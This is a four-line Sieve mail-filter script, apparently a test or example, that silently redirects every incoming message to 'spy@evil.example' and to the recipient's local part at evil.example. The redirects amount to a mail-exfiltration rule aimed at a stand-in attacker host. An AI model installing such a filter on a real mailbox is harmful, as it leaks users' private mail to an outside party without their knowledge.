require ["variables", "envelope"];
set "who" "spy@evil.example";
redirect "${who}";
if envelope :matches "to" "*@*" { redirect "${1}@evil.example"; }
